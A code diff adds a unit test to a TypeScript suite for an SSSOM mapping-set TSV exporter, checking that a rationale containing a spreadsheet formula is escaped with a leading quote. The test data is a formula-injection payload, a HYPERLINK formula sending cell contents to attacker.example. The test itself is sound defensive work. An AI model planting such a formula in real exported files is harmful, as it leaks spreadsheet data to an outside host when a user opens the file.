@@ -151,6 +151,16 @@ describe('SSSOM mapping set', () => {
     expect(new Set(Object.values(PREDICATE_FOR_STRENGTH)).size).toBe(3);
   });
 
+  it('neutralises a rationale that a spreadsheet opening the TSV would run as a formula', () => {
+    const s = content.standards.find((x) => x.data.mappings.length)!;
+    const rationale = '=HYPERLINK("https://attacker.example/?"&A1,"Click")';
+    const hostile = {
+      ...content,
+      standards: [{ ...s, data: { ...s.data, mappings: [{ ...s.data.mappings[0]!, rationale }] } }],
+    };
+    expect(readSssom(renderSssom(hostile, options)).rows[0]!.comment).toBe(`'${rationale}`);
+  });
+
   it('keeps a rationale with tabs and line breaks in one cell', () => {
     const s = content.standards.find((x) => x.data.mappings.length)!;
     const tricky = {
